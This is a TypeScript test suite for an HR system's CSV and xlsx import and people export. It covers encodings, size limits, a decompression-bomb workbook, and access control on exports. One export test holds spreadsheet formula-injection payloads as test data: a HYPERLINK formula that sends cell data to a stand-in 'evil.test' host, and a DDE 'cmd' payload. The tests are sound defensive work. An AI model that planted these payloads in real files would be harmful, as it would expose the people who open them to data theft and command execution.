import { randomBytes, randomUUID } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { Zip } from '#platform/server/zip.ts'
import type { Import } from '#slices/import/contract.ts'
import { openFile } from '#slices/import/server/read-file.ts'
import { importing } from '../import-run.ts'
import { createWorld, type ActorName } from '../world.ts'

const w = await createWorld()
const hr = importing(w)
const howMany = async () =>
  (await w.query<{ n: number }>('select count(*)::int as n from hr.employees where tenant_id = $1', [w.tenants.A]))[0]?.n
const said = (text: string): string => expect.stringContaining(text) as string
const heading = (name: string) => (found: Import) => found.columns.find((column) => column.name === name)?.index ?? -1

/** Hands a file in with every suggestion taken; answers it with its first rows. */
async function checked(content: string | Buffer, filename = 'people.csv') {
  const handed = await hr.hand(content, filename)
  if (handed.state === 'failed') return { one: handed, rows: [] }
  const one = await hr.plan(handed.id)
  return { one, rows: await hr.rows(handed.id) }
}
const failed = async (content: Buffer, filename?: string) => (await checked(content, filename)).one

describe('Texts', () => {
  const people =
    'Name,Email,Start date,Salary\nMary O\u2019Brien,mary@im.example,2024-02-29,"\u00a346,500.50"\nZo\u00eb Nan,zoe@im.example,2024-03-01,24000'
  const shown = [
    ['Mary · O\u2019Brien', 'mary@im.example', '29 Feb 2024', '£46500.50'],
    ['Zoë · Nan', 'zoe@im.example', '1 Mar 2024', '£24000'],
  ]
  const latin = (text: string) => Buffer.from(text.replaceAll('\u2019', '\u0092'), 'latin1')
  test.each([
    ['IM-005 UTF-8 with its mark', Buffer.from(`\ufeff${people}`)],
    ['IM-006 UTF-16LE', Buffer.from(`\ufeff${people}`, 'utf16le')],
    ['IM-007 Windows-1252 with O\u2019Brien and \u00a3', latin(people)],
    ['IM-008 lines that end in CR alone', Buffer.from(people.replaceAll('\n', '\r'))],
    ['IM-009 CRLF and LF mixed', Buffer.from(people.replace('\n', '\r\n'))],
  ])('%s: every value is the right one', async (_title, bytes) => {
    const { one, rows } = await checked(bytes)
    expect(one.counts).toMatchObject({ add: 2, problem: 0 })
    expect(rows.map(({ cells }) => cells.map(({ value }) => value))).toEqual(shown)
  })

  test('IM-002 one bad row among thousands is named with its column, and nothing at all is written', async () => {
    const lines = Array.from({ length: 4999 }, (_, i) => `Ann Lee,ann${i}@many.example,${i === 4998 ? '31/02/2024' : '13/02/2024'}`)
    const before = await howMany()
    const { one } = await checked(`Name,Email,Start date\n${lines.join('\n')}`)
    expect(one.counts).toMatchObject({ rows: 4999, add: 4998, problem: 1 })
    const [bad] = await hr.rows(one.id, '&kind=problem')
    expect([bad?.row, bad?.cells.find(({ problem }) => problem !== null)]).toEqual([
      5000,
      expect.objectContaining({
        column: 2,
        raw: '31/02/2024',
        problem: expect.objectContaining({ message: 'There is no such day: 31/02/2024.' }),
      }),
    ])
    expect((await w.ask('a_hr', 'POST', `/imports/${one.id}/commit`, { body: { version: one.version } })).status).toBe(422)
    expect(await howMany()).toBe(before)
  }, 60_000)

  test('IM-010 one line of 100 MB is refused by its size before anything is kept', async () => {
    const answer = await w.server.http.inject({
      method: 'POST',
      url: '/api/imports?filename=one-line.csv',
      payload: Buffer.alloc(100 * 1024 * 1024, 'a,'),
      headers: { ...w.bearer('a_hr'), 'content-type': 'application/octet-stream', 'idempotency-key': randomUUID() },
    })
    expect(answer.statusCode).toBe(413)
    expect(await w.query("select 1 from hr.imports where filename = 'one-line.csv'")).toEqual([])
  }, 60_000)

  test('IM-012 10,000 columns are refused in words; 500 are read', async () => {
    const wide = (n: number) => Buffer.from(`${Array.from({ length: n }, (_, i) => `c${i}`).join(',')}\n${'x,'.repeat(n - 1)}x`)
    expect(await failed(wide(10_000))).toMatchObject({ state: 'failed', failure: said('at most 600') })
    expect((await hr.hand(wide(500))).columns).toHaveLength(500)
  })

  test('IM-013 headings that stand twice are a row that is left out, and said so', async () => {
    const { one, rows } = await checked('Name,Email\nName,Email\nAnn Lee,ann@twice.example')
    expect(one.counts).toMatchObject({ skipped: 1 })
    expect(rows[0]).toMatchObject({ row: 2, kind: 'skipped', problems: ['This row repeats the headings.'] })
  })

  test('IM-016 a phone number that Excel has shortened is a problem of its cell', async () => {
    const { rows } = await checked('Name,Email,Start date,Phone\nAnn Lee,ann@short.example,2024-01-08,4.47701E+11')
    expect(rows[0]?.cells[3]).toMatchObject({ raw: '4.47701E+11', value: null, problem: { message: said('Excel has shortened') } })
  })

  test('a megabyte in one cell, bytes with the name of a table, a file cut in the middle: each ends in words', async () => {
    const long = await checked(`Name,Email,Start date,Job title\nAnn Lee,ann@long.example,2024-01-08,${'x'.repeat(1_000_000)}`)
    expect(long.rows[0]?.cells[3]?.problem?.message).toBe('At most 200 characters.')
    expect(await failed(randomBytes(20_000), 'people.csv')).toMatchObject({ state: 'failed', failure: said('not a table') })
    const cut = await checked('Name,Email,Start date\nAnn Lee,ann@cut.example,"2024-0')
    expect(cut.one.counts).toMatchObject({ problem: 1 })
    expect(cut.rows[0]?.problems.join(' ')).toContain('never closed')
  })
})

const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`
const heads = `<row r="1">${text('A1', 'Email')}${text('B1', 'Name')}${text('C1', 'Job title')}${text('D1', 'Start date')}</row>`
const row = (job: string, start = text('D2', '2024-01-08')) =>
  `<row r="2">${text('A2', 'ann@book.example')}${text('B2', 'Ann Lee')}${job}${start}</row>`

interface BookAsked {
  readonly sheet: string
  readonly after?: string
  readonly parts?: Readonly<Record<string, string>>
  readonly workbook?: string
  readonly sheets?: string
}
async function book({ sheet, after = '', parts = {}, workbook = '', sheets = '' }: BookAsked): Promise<Buffer> {
  const zip = new Zip()
  const all = {
    'xl/workbook.xml': `<workbook xmlns:r="r">${workbook}<sheets><sheet name="Staff" sheetId="1" r:id="r1"/>${sheets}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Target="worksheets/sheet2.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${sheet}</sheetData>${after}</worksheet>`,
    ...parts,
  }
  const bytes: Uint8Array[] = []
  for (const [name, content] of Object.entries(all)) bytes.push(await zip.add(name, Buffer.from(content)))
  bytes.push(zip.end())
  return Buffer.concat(bytes)
}
const jobOf = async (bytes: Buffer) => {
  const { one, rows } = await checked(bytes, 'people.xlsx')
  return { notes: one.notes, cell: rows[0]?.cells.find(({ column }) => column === heading('Job title')(one)), rows }
}

describe('Workbooks', () => {
  test('IM-017 of a formula the last result is taken, nothing is computed, and it is said', async () => {
    const { notes, cell } = await jobOf(await book({ sheet: heads + row('<c r="C2"><f>1+1</f><v>2</v></c>') }))
    expect(cell).toMatchObject({ raw: '2', value: '2' })
    expect(notes).toContainEqual(said('hold a formula'))
  })

  test('IM-018 links to other files are not followed; the value they last had stands', async () => {
    const parts = { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }
    const { notes, cell } = await jobOf(await book({ sheet: heads + row('<c r="C2" t="str"><f>[1]Other!A1</f><v>Cook</v></c>'), parts }))
    expect(cell?.value).toBe('Cook')
    expect(notes).toContainEqual(said('not followed'))
  })

  test('IM-019 a bomb of a thousand times its size ends early, in words', async () => {
    const bomb = await book({ sheet: heads, parts: { 'xl/sharedStrings.xml': `<sst><si><t>${' '.repeat(60_000_000)}</t></si></sst>` } })
    expect(bomb.length).toBeLessThan(100_000)
    expect(await failed(bomb)).toMatchObject({ state: 'failed', failure: said('unpacks to far more') })
  }, 30_000)

  test('IM-020 rows of nothing are no rows', async () => {
    const rows = Array.from({ length: 200_000 }, (_, i) => `<row r="${i + 3}"/>`).join('')
    expect((await checked(await book({ sheet: heads + row(text('C2', 'Cook')) + rows }), 'people.xlsx')).one.counts).toMatchObject({
      rows: 1,
      add: 1,
    })
  }, 30_000)

  test('IM-021 days counted from 1904 are the right days', async () => {
    const styles = { 'xl/styles.xml': '<styleSheet><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>' }
    const start = '<c r="D2" s="1"><v>43835</v></c>'
    const { notes, rows } = await jobOf(
      await book({ sheet: heads + row(text('C2', 'Cook'), start), workbook: '<workbookPr date1904="1"/>', parts: styles }),
    )
    expect(rows[0]?.cells.at(-1)).toMatchObject({ raw: '2024-01-06', value: '6 Jan 2024' })
    expect(notes).toContainEqual(said('1904'))
  })

  test('IM-022 a character written as _x0000_ is a problem of its cell and never stored', async () => {
    const { cell } = await jobOf(await book({ sheet: heads + row(text('C2', 'Co_x0000_ok')) }))
    expect(cell).toMatchObject({ value: null, problem: { message: said('cannot be used here'), fix: 'Co ok' } })
  })

  test('hidden sheets and merged cells are told of, and a workbook cut in the middle is refused', async () => {
    const whole = await book({
      sheet: heads + row(text('C2', 'Cook')),
      after: '<mergeCells><mergeCell ref="A5:B6"/></mergeCells>',
      sheets: '<sheet name="Secret" sheetId="2" state="hidden" r:id="r2"/>',
      parts: { 'xl/worksheets/sheet2.xml': '<worksheet><sheetData/></worksheet>' },
    })
    const { notes } = await jobOf(whole)
    expect(notes).toEqual(expect.arrayContaining([said('“Secret”'), said('are merged')]))
    expect(await failed(whole.subarray(0, whole.length / 2), 'people.xlsx')).toMatchObject({
      state: 'failed',
      failure: said('damaged or cut off'),
    })
  })
})

async function exported(as: ActorName, format: 'csv' | 'xlsx' | 'json', fields = 'email,job_title') {
  return w.server.http.inject({ method: 'GET', url: `/api/people-export?format=${format}&fields=${fields}`, headers: w.bearer(as) })
}
async function cellsOf(bytes: Buffer): Promise<(readonly string[])[]> {
  const opened = await openFile(bytes, null)
  if ('fault' in opened) throw new Error(opened.fault)
  const rows = []
  for await (const { cells } of opened.rows) rows.push(cells)
  return rows
}

describe('What looks like a formula goes out as text and comes in again as it was', () => {
  const person = w.person('A.E2')
  const { email } = person.record.main ?? {}
  test.each([
    ['EX-002', '+44 7700 900123', 200],
    ['EX-003', '-2+3', 200],
    ['EX-004', '@SUM(A1)', 200],
    ['EX-005', 'a\t=1+1', 422],
    ['EX-006', 'a\r=1+1', 422],
    ['EX-007', '\u0000=1', 422],
    ['EX-009', '=HYPERLINK("http://evil.test?"&A1,"x")', 200],
    ['EX-010', "=cmd|' /C calc'!A0", 200],
    ['EX-011', '"=1+1', 200],
  ] as const)(
    '%s %j',
    async (_id, title, status) => {
      const read = (await w.ask('a_hr', 'GET', `/employees/${person.id}`)).body as { version: number }
      const put = await w.ask('a_hr', 'PUT', `/employees/${person.id}`, { body: { job_title: title, version: read.version } })
      // A control character cannot be stored in the first place.
      expect(put.status).toBe(status)
      if (status !== 200) return
      const csv = await exported('a_hr', 'csv')
      const line = csv.body.split('\r\n').find((each) => each.startsWith(email))
      expect(line?.slice(email.length + 1)).not.toMatch(/^"?[=+\-@\t\r]/)
      const xlsx = (await exported('a_hr', 'xlsx')).rawPayload
      expect((await cellsOf(xlsx)).find(([first]) => first === email)?.[1]).toBe(title)
      for (const [bytes, name] of [
        [csv.rawPayload, 'people.csv'],
        [xlsx, 'people.xlsx'],
      ] as const) {
        const { one } = await checked(bytes, name)
        const [mine] = await hr.rows(one.id, `&search=${encodeURIComponent(email)}`)
        expect([mine?.kind, mine?.cells.find(({ column }) => column === 1)?.value]).toEqual(['same', title])
      }
    },
    30_000,
  )

  test('EX-013 a file holds the people and fields the asker sees of everybody, and is for nobody else', async () => {
    const listed = (await w.ask('a_hr', 'GET', '/employees?limit=1000')).body as { data: { email: string }[] }
    const out = JSON.parse((await exported('a_hr', 'json', 'email')).body) as { email: string }[]
    expect(new Set(out.map((each) => each.email))).toEqual(new Set(listed.data.map((each) => each.email)))
    const { data } = (await w.ask('a_hr', 'GET', '/people-export-fields')).body as { data: { target: string }[] }
    expect(data.filter(({ target }) => target.startsWith('bank_'))).toEqual([])
    expect((await exported('a_hr', 'csv', 'bank_sort_code')).statusCode).toBe(422)
    for (const as of ['a_mgr', 'a_emp', 'a_emp_with_reports'] as const) {
      expect((await exported(as, 'csv')).statusCode).toBe(403)
      expect((await w.ask(as, 'GET', '/people-export-fields')).status).toBe(403)
    }
  })

  test('EX-014 the address of an export is worth nothing to somebody who is no longer hr', async () => {
    expect((await exported('a_hr2', 'csv')).statusCode).toBe(200)
    await w.query("update hr.memberships set role = 'employee' where user_id = $1", [w.account('a_hr2').userId])
    expect([403, 404]).toContain((await exported('a_hr2', 'csv')).statusCode)
  })
})
